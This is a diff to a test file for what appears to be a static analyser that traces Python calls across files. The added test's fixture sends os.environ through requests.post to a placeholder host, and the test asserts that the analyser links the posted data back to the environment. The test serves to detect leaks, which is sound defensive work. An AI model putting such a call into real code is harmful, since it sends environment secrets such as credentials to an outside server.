@@ -56,3 +56,18 @@ test('files that call each other come to an end', () => {
   const other = followed('import a, os\ndef g():\n  a.f()\n  os.system("x")', { file: 'b.py', module: 'b' });
   expect(running(one, other)).toEqual(['import a.f()', 'import os.system("x")']);
 });
+
+test('what is given to a function of another file stands in its calls', () => {
+  const sending = followed(
+    'import requests\ndef send(where, *, data=None):\n  requests.post(where + "/x", data=[data])',
+    helper,
+  );
+  const caller = followed(
+    'import os\nfrom acme.helper import send\nsend("https://a.example.invalid", data=os.environ)',
+    setup,
+  );
+  const post = link([caller, sending])[1]?.roots.at(-1)?.calls.at(-1);
+  expect(post).toMatchObject({ callee: 'requests.post' });
+  expect(post?.keywords.get('data')).toMatchObject({ items: [{ path: 'os.environ' }] });
+  expect(post?.keywords.get('data')?.origins).toMatchObject([{ kind: 'environment', text: '*' }]);
+});
